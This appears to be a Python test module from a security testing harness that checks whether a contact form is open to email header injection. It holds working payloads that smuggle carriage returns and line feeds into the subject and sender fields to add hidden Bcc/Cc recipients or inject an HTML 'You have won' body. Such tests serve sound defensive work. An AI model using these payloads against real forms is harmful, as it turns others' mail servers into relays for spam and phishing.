"""Attacks by what is written into a form."""

from prover import Target

from .stage import Stage


def reaches(target: Target, stage: Stage, sender: str, subject: str) -> bool:
    sent = target.contact_mail(sender, subject, "Buy this now!")
    print("delivered to", *sorted(stage.recipients(sent)))
    return "victim@example.net" in stage.recipients(sent)


def attack_blind_copy(target: Target, stage: Stage) -> bool:
    """Put further recipients behind the subject."""
    return reaches(target, stage, "me@example.com", "Hi\r\nBcc: victim@example.net")


def attack_by_the_sender(target: Target, stage: Stage) -> bool:
    """Put them behind one's own address, which few clean."""
    return reaches(target, stage, "me@example.com\nCc: victim@example.net", "Hello")


def attack_carriage_return(target: Target, stage: Stage) -> bool:
    """End the line with a carriage return alone."""
    return reaches(target, stage, "me@example.com", "Hi\rBcc: victim@example.net")


def attack_own_body(target: Target, stage: Stage) -> bool:
    """End the head, and write a message of one's own, in HTML, above the rest."""
    subject = "Hello\r\nContent-Type: text/html\r\n\r\n<h1>You have won</h1><!--"
    sent = target.contact_mail("me@example.com", subject, "as the form demands")
    message = stage.read(sent)
    print(message.get_content_type(), message.get_payload())
    return message.get_content_type() == "text/html"
